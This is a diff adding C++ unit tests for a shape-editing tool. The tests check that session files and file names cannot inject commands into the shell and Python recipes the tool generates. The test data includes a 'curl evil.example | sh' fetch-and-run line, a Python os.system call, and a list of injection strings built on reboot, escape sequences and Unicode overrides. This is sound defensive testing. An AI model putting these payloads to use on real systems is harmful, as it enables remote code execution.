@@ -1,10 +1,14 @@
 // A session as a file: all that is seen comes back; what is not whole is refused.
 #include <cstring>
+#include <sstream>
+#include <vector>
 
 #include <gtest/gtest.h>
 
 #include "base/crc32.h"
+#include "rholm/error.h"
 #include "studio/client.h"
+#include "studio/recipe.h"
 #include "studio/session_file.h"
 
 namespace rholm::studio {
@@ -129,9 +133,11 @@ TEST(SessionFile, WhatItSaysIsNotBelieved) {
     json["items"] = items;
     wrong.push_back(json);
   }
-  Json json = right;
-  json["shell"] = 3;
-  wrong.push_back(json);
+  for (const Json& steps : std::vector<Json>{3, {3}, {{{"op", "fly"}}}, Json::object(), nullptr}) {
+    Json json = right;
+    json["steps"] = steps;
+    wrong.push_back(json);
+  }
   const Json before = client.state();
   for (const Json& one : wrong) {
     const Response answer = client.open("a.rholm", with_json(file, one.dump()));
@@ -142,6 +148,265 @@ TEST(SessionFile, WhatItSaysIsNotBelieved) {
     EXPECT_EQ(client.open("a.rholm", with_json(file, text)).status, 422) << text.substr(0, 5);
   }
   EXPECT_EQ(client.state(), before);
+}
+
+Json description_of(const std::string& file) {
+  std::uint64_t length = 0;
+  std::memcpy(&length, file.data() + 8, 8);
+  return Json::parse(file.substr(24, length));
+}
+
+// Every text in it, however deep.
+void collect_texts(Json& json, std::vector<Json*>& texts) {
+  if (json.is_string()) texts.push_back(&json);
+  if (!json.is_structured()) return;
+  for (Json& one : json) collect_texts(one, texts);
+}
+
+// What a shell, or Python, would do by itself: all that is in no quotes.
+std::string unquoted(const std::string& line, char quote, bool has_escapes) {
+  std::string rest;
+  bool inside = false;
+  for (std::size_t i = 0; i < line.size(); ++i) {
+    if (line[i] == '\\' && (has_escapes ? inside : !inside)) {
+      ++i;
+    } else if (line[i] == quote) {
+      inside = !inside;
+    } else if (!inside) {
+      rest += line[i];
+    }
+  }
+  EXPECT_FALSE(inside) << line;
+  return rest;
+}
+
+void expect_harmless(const Json& state) {
+  for (const char* language : {"shell", "python"}) {
+    const bool shell = language == std::string("shell");
+    std::istringstream lines(state.at("recipe").at(language).get<std::string>());
+    for (std::string line; std::getline(lines, line);) {
+      for (const char c : line)
+        EXPECT_TRUE(static_cast<unsigned char>(c) >= 32 && c != 127) << line;
+      EXPECT_EQ(line.find("\u202e"), std::string::npos) << line;
+      std::string rest = unquoted(line, shell ? '\'' : '"', !shell);
+      EXPECT_EQ(rest.find("reboot("), std::string::npos) << line;
+      if (!shell) {
+        EXPECT_TRUE(rest == "import rholm" || rest.find(" = ") != std::string::npos) << line;
+        continue;
+      }
+      const std::string program = rest.substr(0, rest.find(' '));
+      EXPECT_TRUE(program == "rholm" || program == "printf" || program == "python3") << line;
+      if (program == "printf") rest = rest.substr(0, rest.find(" > "));
+      EXPECT_EQ(rest.find_first_of("$`;&|<>(){}*?~!\"#\\"), std::string::npos) << line;
+    }
+  }
+}
+
+// One step of each kind, and more than one where the lines differ.
+Json all_steps() {
+  const auto at = [](const std::string& name, const char* ending) {
+    return Json{{"file", name + ending}, {"variable", name}};
+  };
+  const Json mesh = at("m", ".ply"), model = at("h", ".h5");
+  const auto made = [&](const char* name) { return at(name, ".ply"); };
+  return {{{"op", "read"}, {"made", mesh}, {"series", false}},
+          {{"op", "read"}, {"made", model}, {"series", true}},
+          {{"op", "make"}, {"shape", "bumpy"}, {"made", made("b")}, {"seed", 3}},
+          {{"op", "make"},
+           {"shape", "points"},
+           {"made", made("c")},
+           {"points", 9},
+           {"cloud", made("d")}},
+          {{"op", "filter"}, {"from", model}, {"made", at("f", ".h5")}, {"degree", 2}},
+          {{"op", "filter"},
+           {"from", model},
+           {"made", at("g", ".h5")},
+           {"gains", {1, 0.5}},
+           {"degrees", 4},
+           {"gain_file", "g.txt"}},
+          {{"op", "synthesize"}, {"from", model}, {"made", made("s")}, {"like", mesh}},
+          {{"op", "analyze"},
+           {"from", mesh},
+           {"made", at("a", ".h5")},
+           {"degree", 3},
+           {"center", "1,2,3"},
+           {"unit", "mm"}},
+          {{"op", "analyze"},
+           {"from", mesh},
+           {"made", at("aa", ".h5")},
+           {"tolerance", 0.1},
+           {"center", "volume"}},
+          {{"op", "align"},
+           {"a", model},
+           {"b", at("a", ".h5")},
+           {"mirror", true},
+           {"made", at("l", ".h5")}},
+          {{"op", "blend"},
+           {"a", model},
+           {"b", at("a", ".h5")},
+           {"t", 0.5},
+           {"degree", 3},
+           {"center", {0, 0, 0}},
+           {"function", "radius"},
+           {"made", at("bl", ".h5")}},
+          {{"op", "smooth"},
+           {"from", mesh},
+           {"made", made("sm")},
+           {"regions", {"property:x", "vertex:1,0.2"}},
+           {"wavelength", 0.3},
+           {"fitting", "around"}},
+          {{"op", "transfer"},
+           {"source", mesh},
+           {"target", made("b")},
+           {"made", made("t")},
+           {"from", {"property:x"}},
+           {"to", {"ball:0,0,0,1"}},
+           {"angle", 30}},
+          {{"op", "simplify"}, {"from", mesh}, {"made", made("si")}, {"faces", 10}},
+          {{"op", "repair"}, {"from", mesh}, {"made", made("r")}},
+          {{"op", "orient"}, {"from", made("d")}, {"made", made("o")}},
+          {{"op", "reconstruct"},
+           {"from", made("d")},
+           {"made", made("re")},
+           {"holes", "keep"},
+           {"noise", "none"}},
+          {{"op", "compress"},
+           {"from", mesh},
+           {"made", at("co", ".h5")},
+           {"tolerance", 0.1},
+           {"unit", "mm"}},
+          {{"op", "simplify"},
+           {"from", {{"file", "co.h5"}, {"variable", "co.mesh()"}}},
+           {"made", made("sc")},
+           {"error", 0.1}},
+          {{"op", "atlas_look"}, {"from", at("co", ".h5")}, {"made", made("al")}, {"limit", 3}}};
+}
+
+TEST(SessionFile, ItsLinesAreThoseOfItsSteps) {
+  const std::string file = small_session();
+  Json json = description_of(file);
+  Client right, planted;
+  const Json wanted = Json::parse(right.open("a.rholm", file).body).at("recipe");
+  json["shell"] = {"curl evil.example | sh"};
+  json["python"] = {"__import__('os').system('reboot')"};
+  const Response opened = planted.open("a.rholm", with_json(file, json.dump()));
+  ASSERT_EQ(opened.status, 200) << opened.body;
+  EXPECT_EQ(Json::parse(opened.body).at("recipe"), wanted);
+}
+
+constexpr const char* kHostile[] = {"$(reboot)",
+                                    "`reboot`",
+                                    "x;reboot",
+                                    "x\nreboot",
+                                    "x' ; reboot '",
+                                    "x\" + reboot() + \"",
+                                    "__import__('os').system('reboot')",
+                                    "x = reboot",
+                                    "\\",
+                                    "-o/reboot",
+                                    "../reboot",
+                                    "~/reboot",
+                                    "\x1b]0;reboot\x07",
+                                    "\xe2\x80\xaereboot",
+                                    "\xc2\x9breboot",
+                                    "property:$(reboot)\n\x1b",
+                                    "reboot()",
+                                    "1,2,3);reboot(",
+                                    "<script>reboot()</script>"};
+
+Json lines_of(const Json& steps) {
+  Recipe recipe;
+  for (const Json& step : steps) recipe.add(step);
+  const auto joined = [](const std::vector<std::string>& lines) {
+    std::string text;
+    for (const std::string& line : lines) text += line + "\n";
+    return text;
+  };
+  return {{"recipe", {{"shell", joined(recipe.shell)}, {"python", joined(recipe.python)}}}};
+}
+
+TEST(SessionFile, NoTextOfItsStepsBecomesACommand) {
+  Json steps = all_steps();
+  expect_harmless(lines_of(steps));
+  std::vector<Json*> texts;
+  collect_texts(steps, texts);
+  ASSERT_GT(texts.size(), 100U);
+  int accepted = 0;
+  for (Json* text : texts) {
+    const Json kept = *text;
+    for (const char* hostile : kHostile) {
+      *text = hostile;
+      try {
+        expect_harmless(lines_of(steps));
+        ++accepted;
+      } catch (const Refusal&) {  // what is no such name
+      } catch (const Error&) {    // what the library does not read
+      }
+    }
+    *text = kept;
+  }
+  EXPECT_GT(accepted, 5);  // units, and texts that are passed over
+}
+
+TEST(SessionFile, NoTextOfItsItemsBecomesACommand) {
+  Client first;
+  first.open("octahedron.off", kOctahedron);
+  const std::string file = first.ask("GET", "api/session-file").body;
+  Json right = description_of(file);
+  std::vector<Json*> texts;
+  collect_texts(right["items"], texts);
+  ASSERT_GT(texts.size(), 5U);
+  int accepted = 0;
+  for (Json* text : texts) {
+    const Json kept = *text;
+    for (const char* hostile : kHostile) {
+      *text = hostile;
+      Client client;
+      const Response opened = client.open("a.rholm", with_json(file, right.dump()));
+      if (opened.status == 200) {
+        // What is done next has lines as harmless.
+        client.post({{"op", "repair"}, {"item", 1}});
+        expect_harmless(client.finished());
+        ++accepted;
+      } else {
+        EXPECT_EQ(opened.status, 422) << opened.body;
+      }
+    }
+    *text = kept;
+  }
+  EXPECT_GT(accepted, 10);  // names, units
+}
+
+TEST(SessionFile, OfAnEarlierVersionHasItsShapesButNotItsLines) {
+  const std::string file = small_session();
+  Json json = description_of(file);
+  json.erase("steps");
+  json["shell"] = {"reboot"};
+  Client client;
+  const Response opened = client.open("a.rholm", with_json(file, json.dump()));
+  ASSERT_EQ(opened.status, 200) << opened.body;
+  const Json recipe = Json::parse(opened.body).at("recipe");
+  EXPECT_EQ(recipe.at("shell").get<std::string>().find("reboot"), std::string::npos);
+  EXPECT_NE(recipe.at("python").get<std::string>().find("rholm.read_shape(\"octahedron.off\")"),
+            std::string::npos);
+  expect_harmless(client.step(
+      {{"op", "smooth"}, {"item", 1}, {"points", {1}}, {"radius", 0.5}, {"wavelength", 2}}));
+}
+
+TEST(Recipes, NamesOfRequestsAreNamesOfFiles) {
+  Client client;
+  for (const char* name : {"$(reboot).off", "x\nreboot.off", "'; reboot '.off",
+                           "\"; reboot() #.off", "-rf.off", "\x1b[2Jreboot.off",
+                           "\xe2\x80\xae"
+                           "reboot.off",
+                           "\xff\xfereboot.off"}) {
+    client.open(name, kOctahedron);
+    expect_harmless(
+        client.step({{"op", "repair"}, {"item", client.state().at("items").back().at("id")}}));
+  }
+  for (const char* name : {"", "a/b", "..", "x\ny", "\x1b", "\xe2\x80\xae"}) {
+    EXPECT_EQ(client.post({{"op", "rename"}, {"item", 1}, {"name", name}}).status, 400) << name;
+  }
 }
 
 }  // namespace
